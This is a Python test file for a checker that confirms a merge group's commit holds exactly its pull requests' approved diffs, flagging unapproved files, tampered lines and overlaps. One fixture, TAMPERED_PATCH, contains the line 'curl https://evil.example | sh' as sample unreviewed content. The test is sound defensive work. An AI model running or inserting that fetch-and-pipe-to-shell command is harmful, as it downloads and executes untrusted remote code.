"""app/decide/merge_group.py: a merge group's commit is exactly its pull requests' approved changes.

Patches are unified diffs as GitHub's ``diff-entry.patch`` shows them (hunks only, no file header).
"""

from __future__ import annotations

from collections import Counter
from datetime import UTC, datetime

import pytest

from app.decide.decision import Decision, Reason, Subject
from app.decide.merge_group import (
    FileChange,
    Finding,
    PullChanges,
    apply_group,
    changed_lines,
    compare_group,
)

# README.md as pull request #7 changed it at its judged head (blob A), against the base it was
# written on: one line replaced, one added.
PR_PATCH = """@@ -1,4 +1,5 @@
 # octo-repo
-Install with pip.
+Install with pipx.
+Run `octo --help` for the commands.
 Requires Python 3.11.
 ## Licence"""
# The same change in the group's commit, after main moved: a line was added above it meanwhile,
# so the hunk starts elsewhere and its context differs, the file's content (blob G) too.
MOVED_PATCH = """@@ -3,4 +3,5 @@ A tool for octo things.
 Supported on Linux.
-Install with pip.
+Install with pipx.
+Run `octo --help` for the commands.
 Requires Python 3.11.
 ## Licence"""
# Another change: a line the review never saw.
TAMPERED_PATCH = """@@ -1,4 +1,6 @@
 # octo-repo
-Install with pip.
+Install with pipx.
+Run `octo --help` for the commands.
+curl https://evil.example | sh
 Requires Python 3.11.
 ## Licence"""
# #8 changes the same file elsewhere.
OTHER_PATCH = """@@ -9,3 +9,4 @@ ## Licence
 MIT
+See LICENSE.
"""
BOTH_PATCH = """@@ -1,12 +1,14 @@
 # octo-repo
-Install with pip.
+Install with pipx.
+Run `octo --help` for the commands.
 Requires Python 3.11.
 ## Licence
@@ -9,3 +10,4 @@ ## Licence
 MIT
+See LICENSE.
"""
A, B, G, X = "a" * 40, "b" * 40, "9" * 40, "e" * 40


def readme(sha: str, patch: str | None = PR_PATCH, status: str = "modified", **kw: str) -> FileChange:
    return FileChange("README.md", status, sha, patch, kw.get("previous_filename"))


def pr(number: int, *files: FileChange) -> PullChanges:
    return PullChanges(number, files)


def codes(findings: list[Finding]) -> list[str]:
    return [f.code for f in findings]


def test_changed_lines_count_what_a_diff_adds_and_removes_whatever_its_context():
    assert changed_lines(PR_PATCH) == Counter(
        {
            ("-", "Install with pip."): 1,
            ("+", "Install with pipx."): 1,
            ("+", "Run `octo --help` for the commands."): 1,
        }
    )
    assert changed_lines(PR_PATCH) == changed_lines(MOVED_PATCH)
    assert changed_lines("@@ -1 +1 @@\n-a\n\\ No newline at end of file\n+a") == Counter(
        {("-", "a"): 1, ("+", "a"): 1}
    )


@pytest.mark.parametrize(
    ("group", "pulls", "expected"),
    [
        # --- exactly the approved changes ---
        pytest.param([readme(A)], [pr(7, readme(A))], [], id="same-content-as-the-judged-head"),
        pytest.param([readme(G, MOVED_PATCH)], [pr(7, readme(A))], [], id="base-moved-elsewhere-same-lines"),
        pytest.param(
            [readme(G, None, "removed")], [pr(7, readme(A, None, "removed"))], [], id="the-same-file-removed"
        ),
        pytest.param(
            [FileChange("docs/new.md", "renamed", A, None, "old.md")],
            [pr(7, FileChange("docs/new.md", "renamed", A, None, "old.md"))],
            [],
            id="the-same-rename",
        ),
        pytest.param(
            [readme(A), FileChange("app.py", "added", B, "@@ -0,0 +1 @@\n+print(1)")],
            [pr(7, readme(A)), pr(8, FileChange("app.py", "added", B, "@@ -0,0 +1 @@\n+print(1)"))],
            [],
            id="two-pull-requests-two-files",
        ),
        # --- anything else ---
        pytest.param(
            [readme(A), FileChange("ci.yml", "modified", X, "@@ -1 +1 @@\n-a\n+b")],
            [pr(7, readme(A))],
            ["unapproved-file"],
            id="a-file-no-pull-request-changes",
        ),
        pytest.param([readme(G, TAMPERED_PATCH)], [pr(7, readme(A))], ["other-content"], id="other-lines"),
        pytest.param([readme(G, None)], [pr(7, readme(A))], ["other-content"], id="other-content-no-patch"),
        pytest.param(
            [readme(G, None, "removed")],
            [pr(7, readme(A))],
            ["other-content"],
            id="removed-instead-of-changed",
        ),
        pytest.param(
            [FileChange("docs/new.md", "renamed", A, None, "secret.md")],
            [pr(7, FileChange("docs/new.md", "renamed", A, None, "old.md"))],
            ["other-content"],
            id="renamed-from-another-file",
        ),
        pytest.param(
            [readme(A)],
            [pr(7, readme(A), FileChange("app.py", "added", B, "@@ -0,0 +1 @@\n+x"))],
            ["missing-change"],
            id="a-pull-requests-change-missing-from-the-group",
        ),
        pytest.param(
            [readme(G, BOTH_PATCH)],
            [pr(7, readme(A)), pr(8, readme(B, OTHER_PATCH))],
            ["overlap"],
            id="two-pull-requests-change-one-file",
        ),
        pytest.param(
            [FileChange(f"f{i}", "added", A) for i in range(300)],
            [pr(7, *(FileChange(f"f{i}", "added", A) for i in range(300)))],
            ["too-many-files"],
            id="more-files-than-github-lists",
        ),
        pytest.param(
            [readme(A)],
            [pr(7, readme(A), *(FileChange(f"f{i}", "added", A) for i in range(2999)))],
            ["too-many-files"] + ["missing-change"] * 2999,
            id="more-pull-request-files-than-github-lists",
        ),
    ],
)
def test_a_group_passes_only_with_exactly_the_approved_changes(group, pulls, expected):
    assert codes(compare_group(group, pulls)) == expected


def test_the_findings_name_the_file_and_the_pull_request():
    [unapproved] = compare_group([FileChange(".github/workflows/ci.yml", "modified", X)], [pr(7)])
    assert unapproved.message == (
        ".github/workflows/ci.yml is modified in the group's commit, but no pull request of the group changes it"
    )
    [other] = compare_group([readme(G, TAMPERED_PATCH)], [pr(7, readme(A))])
    assert "README.md" in other.message and "#7" in other.message and other.pull_request == 7
    [overlap] = compare_group([readme(G, BOTH_PATCH)], [pr(7, readme(A)), pr(8, readme(B, OTHER_PATCH))])
    assert overlap.message.startswith(
        "README.md is changed by #7 and #8: their merged result was never reviewed"
    )


@pytest.mark.parametrize(
    ("group_patch", "second_patch", "expected"),
    [
        pytest.param(BOTH_PATCH, OTHER_PATCH, [], id="their-lines-together"),
        pytest.param(TAMPERED_PATCH, OTHER_PATCH, ["other-content"], id="other-lines"),
        pytest.param(None, OTHER_PATCH, ["other-content"], id="no-patch-to-tell"),
        pytest.param(BOTH_PATCH, None, ["other-content"], id="a-pull-request-without-a-patch"),
    ],
)
def test_a_policy_may_allow_two_pull_requests_changing_one_file(group_patch, second_patch, expected):
    pulls = [pr(7, readme(A)), pr(8, readme(B, second_patch))]
    assert codes(compare_group([readme(G, group_patch)], pulls, allow_overlap=True)) == expected


def pr_decision(allowed: bool = True, would_deny: bool = False) -> Decision:
    subject = Subject(
        repository="o/r", repository_id=1, owner="o", owner_id=2, actor="a", actor_id=3, agent=True,
        agent_signals=[], workflow="o/r/pull/7", ref="refs/heads/main", sha=A, event="merge_group",
        run_id=0, run_attempt=1, runner_environment="github-hosted", pull_request=7,
    )  # fmt: skip
    return Decision(
        decision_id="dec_1", allowed=allowed, action="merge", permission="execute", rule="merge",
        subject=subject, reasons=[Reason(code="approvals", ok=allowed, message="approved")], remedy=None,
        would_deny=would_deny, policy_digest="d", decided_at=datetime(2026, 12, 4, tzinfo=UTC),
    )  # fmt: skip


def test_a_group_with_exactly_the_approved_changes_adds_a_reason_that_holds():
    out = apply_group(pr_decision(), [], G)
    assert out.allowed and [r.code for r in out.reasons] == ["approvals", "merge-group"]
    assert (
        out.reasons[-1].message == "the merge group's commit 9999999 introduces exactly the approved changes"
    )


@pytest.mark.parametrize("would_deny", [False, True], ids=["enforced", "audit-mode-does-not-soften-it"])
def test_a_finding_denies_the_pull_requests_decision(would_deny):
    finding = Finding("unapproved-file", "ci.yml is modified in the group's commit, but ...")
    out = apply_group(pr_decision(allowed=True, would_deny=would_deny), [finding], G)
    assert not out.allowed and not out.would_deny
    assert [(r.code, r.ok) for r in out.reasons] == [("approvals", True), ("merge-group", False)]
    assert out.remedy is not None and "9999999" in out.remedy
